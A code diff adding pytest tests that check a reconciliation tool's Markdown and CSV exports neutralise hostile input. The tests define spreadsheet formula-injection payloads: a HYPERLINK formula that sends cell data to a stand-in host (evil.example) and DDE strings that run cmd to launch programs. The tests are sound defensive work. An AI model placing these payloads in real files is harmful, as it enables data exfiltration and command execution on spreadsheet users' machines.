@@ -15,6 +15,8 @@ from sqlalchemy.orm import Session
 
 from reconcile.review.queue import Item, queue
 from reconcile.validate import schema_problems
+from tests.factories import HOSTILE, hostile_reports, titled_meeting
+from tests.rendered import render
 from tests.review.conftest import FRANCESCHI_TITLE, THIRD_REPORT
 
 ROOT = Path(__file__).resolve().parents[2]
@@ -179,3 +181,49 @@ def test_a_missing_output_folder_is_one_line_and_writes_nothing(seeds, tmp_path:
     assert result.exit_code == 1
     assert result.stderr == f"Error: {target}: cannot write the records: folder {target.parent} does not exist\n"
     assert not target.parent.exists()
+
+
+def test_the_markdown_export_shows_hostile_values_and_notes_as_text(cli, engine, tmp_path):
+    assert cli("run", hostile_reports(tmp_path / "reports")).exit_code == 0
+    label = _one(engine, "conflict", "Jamous", "title").target.label
+    ruling = [HOSTILE["link"], "--source", HOSTILE["img"], "--note", HOSTILE["lines"], "--reviewer", HOSTILE["bold"]]
+    decide = cli("review", "decide", label, "accept", *ruling)
+    assert decide.exit_code == 0, decide.stderr
+    result = cli("export", "--format", "markdown")
+    assert result.exit_code == 0, result.stderr
+    page = render(result.stdout)
+    assert set(page.tags) <= {"h1", "h2", "h3", "p", "ul", "li", "strong"}
+    for key, value in HOSTILE.items():
+        assert key == "code" or " ".join(value.split()) in page.text  # "code" is a source name: not exported
+    link, img, bold = HOSTILE["link"], HOSTILE["img"], HOSTILE["bold"]
+    assert f"published: {link} decision: accept “{link}” (source: {img}) by {bold}, " in page.text
+
+
+# Cells a spreadsheet would run as formulas: a link that sends the sheet's data away, a command through DDE.
+FORMULAS = {
+    "title": '=HYPERLINK("http://evil.example/?d="&A1,"Jamous")',
+    "other title": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "source": "+cmd|' /C notepad'!A0",
+    "note": "-2+3+cmd|' /C calc'!A0",
+    "reviewer": "@ana",
+}
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_kept_as_text(cli, engine, tmp_path):
+    folder = tmp_path / "reports"
+    folder.mkdir()
+    for name, title in (("=wire", FORMULAS["title"]), ("b", FORMULAS["other title"])):
+        titled_meeting(title, source=FORMULAS["source"]).write(folder, name)
+    assert cli("run", folder).exit_code == 0
+    label = _one(engine, "conflict", "Jamous", "title").target.label
+    ruling = [FORMULAS["title"], "--note", FORMULAS["note"], "--reviewer", FORMULAS["reviewer"]]
+    assert cli("review", "decide", label, "accept", *ruling).exit_code == 0
+    result = cli("export", "--format", "csv")
+    assert result.exit_code == 0, result.stderr
+    rows = list(csv.DictReader(io.StringIO(result.stdout)))
+    assert not [c for row in rows for c in row.values() if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    [title] = [row for row in rows if row["finding"] == label]
+    assert title["value"] == title["decided_value"] == "'" + FORMULAS["title"]
+    assert (title["note"], title["reviewer"]) == ("'" + FORMULAS["note"], "'" + FORMULAS["reviewer"])
+    assert title["supporting"].startswith("'=wire [")
+    assert (title["record_type"], title["name"], title["status"]) == ("entity", "Badr Jamous", "accepted")
